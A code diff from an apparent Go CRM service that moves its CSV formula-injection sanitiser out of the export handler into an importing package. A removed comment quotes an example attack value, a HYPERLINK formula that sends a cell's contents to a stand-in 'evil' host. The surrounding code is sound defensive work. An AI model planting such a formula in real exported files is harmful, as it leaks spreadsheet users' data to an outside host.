@@ -11,7 +11,6 @@ import (
 	"net/http"
 	"net/url"
 	"strconv"
-	"strings"
 
 	"github.com/go-kit/kit/endpoint"
 	kithttp "github.com/go-kit/kit/transport/http"
@@ -19,6 +18,7 @@ import (
 
 	"github.com/rapportcrm/rapport/pkg/httpapi"
 	"github.com/rapportcrm/rapport/pkg/problem"
+	"github.com/rapportcrm/rapport/services/contact/importing"
 	"github.com/rapportcrm/rapport/services/contact/service"
 )
 
@@ -163,7 +163,7 @@ func writeCSV(ctx context.Context, w io.Writer, exp service.Export) error {
 	if err := cw.Write(exp.Columns); err != nil {
 		return err
 	}
-	err := exp.Rows(ctx, func(cells []string) error { return cw.Write(inertCells(cells)) })
+	err := exp.Rows(ctx, func(cells []string) error { return cw.Write(importing.InertCells(cells)) })
 	if err != nil {
 		return err
 	}
@@ -172,47 +172,6 @@ func writeCSV(ctx context.Context, w io.Writer, exp service.Export) error {
 		return err
 	}
 	return bw.Flush()
-}
-
-// formulaStarts are the characters a spreadsheet opening a CSV file takes
-// a cell to be a formula by, or that hide one (OWASP "CSV injection"): a
-// name like =HYPERLINK("http://evil"&A1,"x") would run on the reader's
-// machine. The importer drops the quote inertCell adds (importing.ReadCSV).
-const formulaStarts = "=+-@\t\r"
-
-// inertCells returns cells with each formula-like text made inert, in place.
-func inertCells(cells []string) []string {
-	for i, c := range cells {
-		cells[i] = inertCell(c)
-	}
-	return cells
-}
-
-// inertCell prefixes with ' a text a spreadsheet would read as a formula,
-// which it then shows as typed. A number or a list of phone numbers
-// (+84912345678; +84987654321, -12.5) is left as it is: without a letter
-// or a reference it can compute nothing harmful, and E.164 phones must stay
-// as they are.
-func inertCell(s string) string {
-	if s == "" || !strings.ContainsRune(formulaStarts, rune(s[0])) || plainNumbers(s) {
-		return s
-	}
-	return "'" + s
-}
-
-// plainNumbers reports whether s is numbers only, signed or as phones are
-// written: digits, spaces and + - . , ; ( ), at least one digit.
-func plainNumbers(s string) bool {
-	digit := false
-	for _, r := range s {
-		switch {
-		case r >= '0' && r <= '9':
-			digit = true
-		case !strings.ContainsRune(" +-.,;()", r):
-			return false
-		}
-	}
-	return digit
 }
 
 // writeXLSX builds the sheet with excelize's StreamWriter (rows go to a
